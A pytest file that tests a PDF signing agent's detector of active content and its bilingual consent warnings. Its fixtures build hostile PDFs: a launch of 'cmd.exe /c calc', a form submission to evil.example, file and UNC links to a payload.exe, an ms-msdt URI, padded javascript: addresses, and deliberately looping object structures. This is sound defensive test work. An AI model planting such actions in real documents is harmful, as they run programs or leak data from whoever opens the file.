"""Active content anywhere in a PDF reaches the consent, named: JavaScript, launching a program,
the network, other files, embedded files, XFA; a file too big or too tangled to check says so.

Each PDF is a clean one from pyHanko's writer with one thing added by an incremental update (or,
for broken objects, bytes patched in place), then read by ``inspect_pdf`` as the agent does.
"""

from __future__ import annotations

import io
import re
import time
from collections.abc import Callable
from typing import Any

import pytest

from agent.errors import KysoError
from agent.server.consent import pdf_item
from agent.signing.pdf import inspect_pdf
from agent.signing.pdf.active import (
    CHANGES_VIEW,
    EMBEDDED_FILES,
    INCOMPLETE,
    JAVASCRIPT,
    LAUNCH,
    MAX_NODES,
    NETWORK,
    OTHER_FILES,
    WARNINGS,
    XFA,
)
from tests.signing_pdf.conftest import make_pdf

Edit = Callable[[Any, Any, Any], None]  # (writer, catalog, first page)


def _d(**entries: Any) -> Any:
    """A PDF dictionary: keys without their slash; str values that start with '/' are names,
    other str values are text strings."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.generic import pdf_name

    def convert(value: Any) -> Any:
        if isinstance(value, str):
            return pdf_name(value) if value.startswith("/") else generic.TextStringObject(value)
        if isinstance(value, list):
            return generic.ArrayObject([convert(v) for v in value])
        if isinstance(value, int):
            return generic.NumberObject(value)
        return value

    return generic.DictionaryObject({pdf_name(f"/{k}"): convert(v) for k, v in entries.items()})


def _amend(edit: Edit) -> bytes:
    """A clean two-page PDF with ``edit`` applied to its catalog and first page."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    writer = IncrementalPdfFileWriter(io.BytesIO(make_pdf(2)))
    root = writer.root
    page = root["/Pages"]["/Kids"][0].get_object()
    edit(writer, root, page)
    writer.update_root()
    writer.update_container(page)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _a(*items: Any) -> Any:
    """A PDF array of objects already made (references, dictionaries)."""
    from pyhanko.pdf_utils import generic

    return generic.ArrayObject(items)


def _annotate(writer: Any, page: Any, annotation: Any) -> Any:
    """``annotation`` added to ``page`` as an indirect object; its reference."""
    from pyhanko.pdf_utils import generic

    annotation.setdefault(
        generic.pdf_name("/Rect"), generic.ArrayObject([generic.NumberObject(v) for v in (0,) * 4])
    )
    ref = writer.add_object(annotation)
    page[generic.pdf_name("/Annots")] = generic.ArrayObject([ref])
    return ref


def _js(script: str = "app.alert('hi')") -> Any:
    return _d(S="/JavaScript", JS=script)


def _kinds(document: bytes) -> tuple[str, ...]:
    return inspect_pdf(document).active_content


def _warnings(document: bytes) -> list[str]:
    item = pdf_item(inspect_pdf(document), "hopdong.pdf", None)
    return [value for label, value in item.lines if label == "Cảnh báo / warning"]


# --- a clean file ------------------------------------------------------------------------------


def test_a_clean_pdf_has_no_warning() -> None:
    def links(writer: Any, root: Any, page: Any) -> None:
        # An ordinary hyperlink (clicked, never by itself) and a bookmark to page 2.
        _annotate(writer, page, _d(Type="/Annot", Subtype="/Link", A=_d(S="/URI", URI="x.vn")))
        target = root["/Pages"]["/Kids"].raw_get(1)
        mark = writer.add_object(_d(Title="Trang 2", A=_d(S="/GoTo", D=[target, "/Fit"])))
        root["/Outlines"] = writer.add_object(_d(Type="/Outlines", First=mark, Last=mark))

    for document in (make_pdf(3), _amend(links)):
        facts = inspect_pdf(document)
        assert facts.active_content == () and not facts.has_javascript
        assert _warnings(document) == []


# --- where actions live ------------------------------------------------------------------------


def test_a_page_open_action_is_javascript() -> None:
    document = _amend(lambda w, r, page: page.__setitem__("/AA", _d(O=_js())))
    assert _kinds(document) == (JAVASCRIPT,)
    assert inspect_pdf(document).has_javascript


def test_a_link_that_launches_a_program() -> None:
    launch = _d(S="/Launch", F="cmd.exe", Win=_d(F="cmd.exe", P="/c calc"))
    document = _amend(lambda w, r, p: _annotate(w, p, _d(Subtype="/Link", A=launch)))
    assert _kinds(document) == (LAUNCH,)
    (warning,) = _warnings(document)
    assert "chạy chương trình" in warning and "launch a program" in warning


def test_a_widget_and_a_field_kid_with_form_scripts() -> None:
    from pyhanko.pdf_utils.generic import pdf_name

    def widget(writer: Any, root: Any, page: Any) -> None:
        ref = _annotate(writer, page, _d(Subtype="/Widget", FT="/Tx", T="a", AA=_d(K=_js())))
        root["/AcroForm"] = _d(Fields=[ref])

    def kid(writer: Any, root: Any, page: Any) -> None:
        # The script sits on a kid field the page does not show: only /Fields → /Kids reach it.
        parent = writer.add_object(_d(FT="/Tx", T="tong"))
        child = writer.add_object(_d(T="con", Parent=parent, AA=_d(C=_js("event.value=1"))))
        parent.get_object()[pdf_name("/Kids")] = _a(child)
        root["/AcroForm"] = _d(Fields=[parent])

    assert _kinds(_amend(widget)) == (JAVASCRIPT,)
    assert _kinds(_amend(kid)) == (JAVASCRIPT,)


@pytest.mark.parametrize(
    ("action", "kind"),
    [
        (_d(S="/SubmitForm", F=_d(FS="/URL", F="https://evil.example/collect")), NETWORK),
        (_d(S="/ImportData", F="data.fdf"), OTHER_FILES),
        (_d(S="/GoToR", F="other.pdf", D=[0, "/Fit"]), OTHER_FILES),
        (_d(S="/GoToE", T=_d(R="/C", N="inner.pdf"), D=[0, "/Fit"]), OTHER_FILES),
    ],
)
def test_a_button_action_that_reaches_outside(action: Any, kind: str) -> None:
    def button(writer: Any, root: Any, page: Any) -> None:
        ref = _annotate(writer, page, _d(Subtype="/Widget", FT="/Btn", T="gui", A=action))
        root["/AcroForm"] = _d(Fields=[ref])

    document = _amend(button)
    assert _kinds(document) == (kind,)
    assert _warnings(document) == [f"{WARNINGS[kind][0]} / {WARNINGS[kind][1]}"]


def test_a_screen_rendition_with_script() -> None:
    rendition = _d(S="/Rendition", OP=0, JS="this.print()")
    document = _amend(lambda w, r, p: _annotate(w, p, _d(Subtype="/Screen", A=rendition)))
    assert _kinds(document) == (JAVASCRIPT,)


def test_a_harmless_goto_whose_next_is_javascript() -> None:
    def chain(writer: Any, root: Any, page: Any) -> None:
        last = writer.add_object(_js())
        middle = _d(S="/GoTo", D=[0, "/Fit"], Next=[_d(S="/Named", N="/NextPage"), last])
        _annotate(writer, page, _d(Subtype="/Link", A=_d(S="/GoTo", D=[0, "/Fit"], Next=middle)))

    assert _kinds(_amend(chain)) == (JAVASCRIPT,)


def test_an_open_action_goto_whose_next_launches() -> None:
    def open_action(writer: Any, root: Any, page: Any) -> None:
        root["/OpenAction"] = _d(S="/GoTo", D=[0, "/Fit"], Next=_d(S="/Launch", F="a.exe"))

    assert _kinds(_amend(open_action)) == (LAUNCH,)


def test_a_web_address_opened_by_itself_contacts_the_network() -> None:
    def open_uri(writer: Any, root: Any, page: Any) -> None:
        root["/OpenAction"] = _d(S="/URI", URI="https://tracker.example/opened")

    def page_uri(writer: Any, root: Any, page: Any) -> None:
        page["/AA"] = _d(O=_d(S="/URI", URI="https://tracker.example/page"))

    assert _kinds(_amend(open_uri)) == (NETWORK,)
    assert _kinds(_amend(page_uri)) == (NETWORK,)


@pytest.mark.parametrize(
    ("uri", "kind"),
    [
        ("java\tscript:app.launchURL('x')", JAVASCRIPT),
        ("FILE:///C:/Windows/System32/calc.exe", OTHER_FILES),
        ("\\\\server\\share\\a.exe", OTHER_FILES),
    ],
)
def test_a_clicked_address_that_is_script_or_a_file(uri: str, kind: str) -> None:
    link = _d(Subtype="/Link", A=_d(S="/URI", URI=uri))
    assert _kinds(_amend(lambda w, r, p: _annotate(w, p, link))) == (kind,)


def test_document_javascript_whose_next_launches_and_bookmark_scripts() -> None:
    def names(writer: Any, root: Any, page: Any) -> None:
        action = _d(S="/JavaScript", JS="1", Next=_d(S="/Launch", F="x.exe"))
        root["/Names"] = _d(JavaScript=_d(Names=["init", writer.add_object(action)]))

    def bookmark(writer: Any, root: Any, page: Any) -> None:
        plain = writer.add_object(_d(Title="Mục 1"))
        scripted = writer.add_object(_d(Title="Mục 2", A=_js()))
        plain.get_object()["/Next"] = scripted
        root["/Outlines"] = writer.add_object(_d(First=plain, Last=scripted))

    assert _kinds(_amend(names)) == (JAVASCRIPT, LAUNCH)
    assert _kinds(_amend(bookmark)) == (JAVASCRIPT,)


def test_xfa_and_embedded_files() -> None:
    from pyhanko.pdf_utils import generic

    def xfa(writer: Any, root: Any, page: Any) -> None:
        packet = writer.add_object(generic.StreamObject(stream_data=b"<xdp:xdp/>"))
        root["/AcroForm"] = _d(Fields=[], XFA=packet)

    def attached(writer: Any, root: Any, page: Any) -> None:
        spec = _d(Type="/Filespec", F="a.exe")
        _annotate(writer, page, _d(Subtype="/FileAttachment", FS=spec))

    def named(writer: Any, root: Any, page: Any) -> None:
        root["/Names"] = _d(EmbeddedFiles=_d(Names=["a.exe", _d(Type="/Filespec", F="a.exe")]))

    assert _kinds(_amend(xfa)) == (XFA,)
    (warning,) = _warnings(_amend(xfa))
    assert "biểu mẫu XFA" in warning and "XFA form" in warning
    assert _kinds(_amend(attached)) == (EMBEDDED_FILES,)
    assert _kinds(_amend(named)) == (EMBEDDED_FILES,)
    assert inspect_pdf(_amend(named)).has_embedded_files


def test_every_warning_fits_a_consent_line_whole() -> None:
    """The consent cuts a value longer than VALUE_LIMIT: the English half would be lost."""
    from agent.signing.pdf.active import KINDS, warning_lines
    from agent.ui.untrusted import VALUE_LIMIT

    lines = warning_lines(KINDS)
    assert len(lines) == len(KINDS)
    assert all(len(text) <= VALUE_LIMIT for _, text in lines)


def test_each_kind_is_named_once_in_the_consent_in_both_languages() -> None:
    def many(writer: Any, root: Any, page: Any) -> None:
        root["/OpenAction"] = _d(S="/JavaScript", JS="1", Next=_d(S="/Launch", F="a.exe"))
        page["/AA"] = _d(O=_js(), C=_d(S="/SubmitForm", F="https://x.example"))

    warnings = _warnings(_amend(many))
    assert warnings == [
        f"{WARNINGS[k][0]} / {WARNINGS[k][1]}" for k in (JAVASCRIPT, LAUNCH, NETWORK)
    ]
    assert "JavaScript" in warnings[0] and "khác với những gì bạn ký" in warnings[0]


# --- actions that change what is shown, play media or name an address ------------------------


def _on_open(action: Any) -> Edit:
    return lambda w, root, p: root.__setitem__("/OpenAction", action)


def _on_page_open(action: Any) -> Edit:
    return lambda w, r, page: page.__setitem__("/AA", _d(O=action))


def _clicked(action: Any) -> Edit:
    return lambda w, r, page: _annotate(w, page, _d(Subtype="/Link", A=action))


def _hide() -> Any:
    from pyhanko.pdf_utils.generic import BooleanObject

    return _d(S="/Hide", T="ghi-chu", H=BooleanObject(False))  # shows a hidden annotation


_CHANGES_VIEW_ACTIONS = [
    _d(S="/ResetForm"),  # every field back to /DV: not the values the preview drew
    _d(S="/SetOCGState", State=["/ON"]),  # a layer hidden in the preview switched on
    _hide(),
    _d(S="/Named", N="/Print"),
    _d(S="/Trans", Trans=_d(S="/Dissolve")),
    _d(S="/GoTo3DView", TA=_d(Subtype="/3D"), V=0),
    _d(S="/Rendition", OP=0, R=_d(S="/MR", C=_d(S="/MCD", D=_d(EF=_d(), F="clip.mp4")))),
]


@pytest.mark.parametrize("action", _CHANGES_VIEW_ACTIONS)
@pytest.mark.parametrize("where", [_on_open, _on_page_open])
def test_an_action_run_by_itself_that_changes_what_is_shown(where: Any, action: Any) -> None:
    """No JavaScript, nothing outside the file: still not what the preview showed."""
    document = _amend(where(action))
    kinds = _kinds(document)
    assert CHANGES_VIEW in kinds and kinds in ((CHANGES_VIEW,), (EMBEDDED_FILES, CHANGES_VIEW))
    assert f"{WARNINGS[CHANGES_VIEW][0]} / {WARNINGS[CHANGES_VIEW][1]}" in _warnings(document)
    assert "khi mở, tệp tự động" in WARNINGS[CHANGES_VIEW][0]
    assert "the file itself resets forms" in WARNINGS[CHANGES_VIEW][1]


def test_the_same_actions_clicked_and_navigation_by_itself_are_no_warning() -> None:
    """A "Clear" button or a layer switch the user presses is theirs to press; moving to a
    page when the file opens shows the same document."""
    for action in _CHANGES_VIEW_ACTIONS[:-1]:
        assert _kinds(_amend(_clicked(action))) == ()
    for action in (_d(S="/Named", N="/LastPage"), _d(S="/GoTo", D=[0, "/Fit"])):
        assert _kinds(_amend(_on_open(action))) == ()
        assert _kinds(_amend(_on_page_open(action))) == ()


def test_a_widget_trigger_that_resets_the_form_on_focus() -> None:
    def widget(writer: Any, root: Any, page: Any) -> None:
        aa = _d(Fo=_d(S="/ResetForm"))
        ref = _annotate(writer, page, _d(Subtype="/Widget", FT="/Tx", T="so-tien", AA=aa))
        root["/AcroForm"] = _d(Fields=[ref])

    assert _kinds(_amend(widget)) == (CHANGES_VIEW,)


@pytest.mark.parametrize("trigger", [_on_open, _on_page_open, _clicked])
def test_an_action_type_nobody_knows_is_not_called_clean(trigger: Any) -> None:
    assert _kinds(_amend(trigger(_d(S="/FetchAndShow", URL="https://x.example")))) == (INCOMPLETE,)


def _url(address: str) -> Any:
    return _d(FS="/URL", F=address)


def _clip(source: Any) -> Any:
    return _d(S="/Rendition", OP=0, R=_d(S="/MR", C=_d(S="/MCD", CT="video/mp4", D=source)))


def test_media_played_by_itself_from_a_web_address_contacts_the_network() -> None:
    streamed = _clip(_url("http://tracker.example/x.mp4"))
    assert _kinds(_amend(_on_open(streamed))) == (NETWORK, CHANGES_VIEW)
    # A selector of renditions, the streamed one second; and a sound whose data is a URL.
    selector = _d(S="/Rendition", OP=0, R=_d(S="/SR", R=[_d(S="/MR"), streamed["/R"]]))
    assert _kinds(_amend(_on_page_open(selector))) == (NETWORK, CHANGES_VIEW)
    sound = _d(S="/Sound", Sound=_d(Type="/Sound", R=8000, F=_url("http://t.example/s.wav")))
    assert _kinds(_amend(_on_page_open(sound))) == (NETWORK, CHANGES_VIEW)
    # Clicked, a streamed clip is a hyperlink's kind of surprise: none.
    assert _kinds(_amend(_clicked(streamed))) == ()


def test_media_from_another_file_reads_it_clicked_or_not() -> None:
    local = _clip(_d(Type="/Filespec", F="\\\\server\\share\\clip.mp4"))
    assert _kinds(_amend(_on_open(local))) == (OTHER_FILES, CHANGES_VIEW)
    assert _kinds(_amend(_clicked(local))) == (OTHER_FILES,)
    assert _kinds(_amend(_clicked(_clip("clip.mp4")))) == (OTHER_FILES,)

    def movie(writer: Any, root: Any, page: Any) -> None:
        annotation = _annotate(writer, page, _d(Subtype="/Movie", Movie=_d(F="film.mov")))
        page["/AA"] = _d(O=_d(S="/Movie", Annotation=annotation))

    assert _kinds(_amend(movie)) == (OTHER_FILES, CHANGES_VIEW)


def test_rich_media_that_plays_when_the_page_opens() -> None:
    def rich(condition: str) -> Edit:
        def edit(writer: Any, root: Any, page: Any) -> None:
            asset = _d(Type="/Filespec", FS="/URL", F="https://tracker.example/a.swf")
            content = _d(Assets=_d(Names=["a.swf", asset]))
            settings = _d(Activation=_d(Condition=condition))
            annotation = _d(Subtype="/RichMedia", RichMediaContent=content)
            annotation["/RichMediaSettings"] = settings
            _annotate(writer, page, annotation)

        return edit

    assert _kinds(_amend(rich("/PO"))) == (NETWORK, EMBEDDED_FILES, CHANGES_VIEW)
    assert _kinds(_amend(rich("/XA"))) == (EMBEDDED_FILES,)  # played on a click


def _link_under_base(base: str, uri: str) -> Edit:
    def edit(writer: Any, root: Any, page: Any) -> None:
        root["/URI"] = _d(Base=base)
        _annotate(writer, page, _d(Subtype="/Link", A=_d(S="/URI", URI=uri)))

    return edit


@pytest.mark.parametrize(
    ("base", "uri", "kinds"),
    [
        ("file://evil.example/share/", "payload.exe", (OTHER_FILES,)),
        ("\\\\evil.example\\share\\", "payload.exe", (OTHER_FILES,)),
        ("java script:", "app.alert(1)", (JAVASCRIPT,)),
        ("https://portal.example/docs/", "guide.html", ()),
        ("file://evil.example/share/", "https://portal.example/", ()),  # absolute: no base
    ],
)
def test_a_relative_link_is_read_against_the_catalog_base(
    base: str, uri: str, kinds: tuple[str, ...]
) -> None:
    assert _kinds(_amend(_link_under_base(base, uri))) == kinds


def test_a_relative_address_opened_by_itself_under_a_web_base_contacts_the_network() -> None:
    def edit(writer: Any, root: Any, page: Any) -> None:
        root["/URI"] = _d(Base="https://tracker.example/")
        root["/OpenAction"] = _d(S="/URI", URI="opened")

    assert _kinds(_amend(edit)) == (NETWORK,)


@pytest.mark.parametrize(
    ("uri", "kind"),
    [
        ("ms-msdt:/id PCWDiagnostic /skip force", LAUNCH),  # a registered program runs it
        ("C:\\Windows\\System32\\calc.exe", OTHER_FILES),  # a drive letter
        ("vbscript:msgbox(1)", JAVASCRIPT),
        (" \t" * 200 + "javascript:app.alert(1)", JAVASCRIPT),  # padded past a short look
    ],
)
def test_a_clicked_address_for_another_program_or_a_drive(uri: str, kind: str) -> None:
    assert _kinds(_amend(_clicked(_d(S="/URI", URI=uri)))) == (kind,)


# --- hostile structure -------------------------------------------------------------------------


def test_action_and_annotation_cycles_end_and_still_find_the_script() -> None:
    from pyhanko.pdf_utils.generic import pdf_name

    def cycles(writer: Any, root: Any, page: Any) -> None:
        first = writer.add_object(_d(S="/GoTo", D=[0, "/Fit"]))
        second = writer.add_object(_d(S="/GoTo", D=[0, "/Fit"], Next=first))
        first.get_object()[pdf_name("/Next")] = _a(second, writer.add_object(_js()))
        # An annotation whose /Parent lists it and itself as kids.
        parent = writer.add_object(_d(T="a"))
        child = writer.add_object(_d(T="b", Parent=parent, Subtype="/Link", A=first))
        parent.get_object()[pdf_name("/Kids")] = _a(child, parent)
        page["/Annots"] = _a(child, child)

    start = time.monotonic()
    assert _kinds(_amend(cycles)) == (JAVASCRIPT,)  # checked in full: nothing left unread
    assert time.monotonic() - start < 5


def test_a_circular_or_self_referencing_form_is_refused_not_a_crash() -> None:
    from pyhanko.pdf_utils.generic import pdf_name

    def circular(writer: Any, root: Any, page: Any) -> None:
        parent = writer.add_object(_d(T="a"))
        child = writer.add_object(_d(T="b", Parent=parent, AA=_d(K=_js())))
        parent.get_object()[pdf_name("/Kids")] = _a(child, parent)
        root["/AcroForm"] = _d(Fields=[parent])

    def form(writer: Any, root: Any, page: Any) -> None:
        root["/AcroForm"] = writer.add_object(_d(Marker="XXXXXXXXXXXXXXXXXXXX", Fields=[]))

    with pytest.raises(KysoError) as refused:
        inspect_pdf(_amend(circular))
    assert refused.value.code == "PDF_MALFORMED"  # pyHanko's own check of the form tree
    document = _amend(form)
    at = document.index(b"XXXXXXXXXXXXXXXXXXXX")
    number = re.findall(rb"(\d+) 0 obj", document[:at])[-1]
    with pytest.raises(KysoError) as refused:
        inspect_pdf(_patch(document, b"XXXXXXXXXXXXXXXXXXXX", number + b" 0 R"))
    assert refused.value.code == "PDF_MALFORMED"


def test_a_next_chain_too_deep_to_follow_says_it_could_not_check_all() -> None:
    def deep(writer: Any, root: Any, page: Any) -> None:
        action = writer.add_object(_d(S="/GoTo", D=[0, "/Fit"]))
        for _ in range(500):
            action = writer.add_object(_d(S="/GoTo", D=[0, "/Fit"], Next=action))
        root["/OpenAction"] = action

    start = time.monotonic()
    document = _amend(deep)
    assert _kinds(document) == (INCOMPLETE,)
    assert time.monotonic() - start < 10
    (warning,) = _warnings(document)
    assert "không kiểm tra hết" in warning and "could not check all" in warning


def test_too_many_objects_to_check_says_so_promptly() -> None:
    def crowded(writer: Any, root: Any, page: Any) -> None:
        link = writer.add_object(_d(Subtype="/Link", Rect=[0, 0, 1, 1]))
        page["/Annots"] = _a(*[link] * (MAX_NODES + 10))

    document = _amend(crowded)
    start = time.monotonic()
    assert _kinds(document) == (INCOMPLETE,)
    assert time.monotonic() - start < 10


def _patch(document: bytes, marker: bytes, body: bytes) -> bytes:
    """``document`` with the body of the object holding ``marker`` replaced by ``body``
    (padded with spaces to the same length, so the cross-reference offsets stay right)."""
    at = document.index(marker)
    start = document.rindex(b" obj", 0, at) + len(b" obj")
    end = document.index(b"endobj", at)
    assert len(body) < end - start
    return document[:start] + b" " + body.ljust(end - start - 1) + document[end:]


def test_an_unreadable_action_or_a_reference_loop_is_not_called_clean() -> None:
    def link(writer: Any, root: Any, page: Any) -> None:
        action = writer.add_object(_d(S="/GoTo", D=[0, "/Fit"], Marker="XXXXXXXXXXXXXXXXXXXX"))
        _annotate(writer, page, _d(Subtype="/Link", A=action))

    document = _amend(link)
    assert _kinds(document) == ()
    broken = _patch(document, b"XXXXXXXXXXXXXXXXXXXX", b"<< /S /JavaScript /JS (")
    assert _kinds(broken) == (INCOMPLETE,)
    # The action object is replaced by a reference to itself: pyHanko alone would recurse.
    at = document.index(b"XXXXXXXXXXXXXXXXXXXX")
    number = re.findall(rb"(\d+) 0 obj", document[:at])[-1]
    loop = _patch(document, b"XXXXXXXXXXXXXXXXXXXX", number + b" 0 R")
    assert _kinds(loop) == (INCOMPLETE,)


def test_a_walk_out_of_time_says_it_could_not_check_all(monkeypatch: pytest.MonkeyPatch) -> None:
    """A file whose objects are slow to read (one huge object stream per annotation...) stops at
    the time limit; here the limit is made zero instead of the file slow."""
    from agent.signing.pdf import active

    document = make_pdf(2)
    monkeypatch.setattr(active, "MAX_SECONDS", 0.0)
    assert _kinds(document) == (INCOMPLETE,)
    monkeypatch.undo()
    assert _kinds(document) == ()


def _edit_first_page(document: bytes, *pairs: tuple[bytes, bytes]) -> bytes:
    """``document`` with byte replacements inside the first page's latest object, its length
    unchanged (the cross-reference offsets stay right)."""
    from pyhanko.pdf_utils.reader import PdfFileReader

    ref = PdfFileReader(io.BytesIO(document)).root["/Pages"]["/Kids"].raw_get(0)
    start = document.rindex(f"{ref.idnum} 0 obj".encode())
    end = document.index(b"\nendobj", start)  # pyHanko's writer puts it on its own line
    page = document[start:end]
    for old, new in pairs:
        assert old in page
        page = page.replace(old, new, 1)
    assert len(page) == end - start
    return document[:start] + page + document[end:]


def test_a_page_key_spelled_with_escapes_or_after_an_endobj_string_is_still_read() -> None:
    """Plain pages are checked from their bytes without parsing (a 200-page scan would cost
    40 ms more); a page whose bytes could hide a key that way is parsed."""
    from pyhanko.pdf_utils import generic

    def padded(writer: Any, root: Any, page: Any) -> None:
        page["/Pad"] = generic.NameObject("/XXXXXXXXXX")
        page["/AA"] = _d(O=_js())

    escaped = _edit_first_page(_amend(padded), (b"/AA", b"/A#41"), (b"/XXXXXXXXXX", b"/XXXXXXXX"))
    assert _kinds(escaped) == (JAVASCRIPT,)

    def after_string(writer: Any, root: Any, page: Any) -> None:
        page["/Note"] = generic.pdf_string(">>endobj")
        page["/AA"] = _d(O=_js())

    # pyHanko writes ">" in a string as \\076; a hand-made file need not: read as bytes, the
    # string would close the page's dictionary and end its object before /AA.
    raw = _edit_first_page(_amend(after_string), (b"(\\076\\076endobj)", b"(>>endobj      )"))
    assert _kinds(raw) == (JAVASCRIPT,)
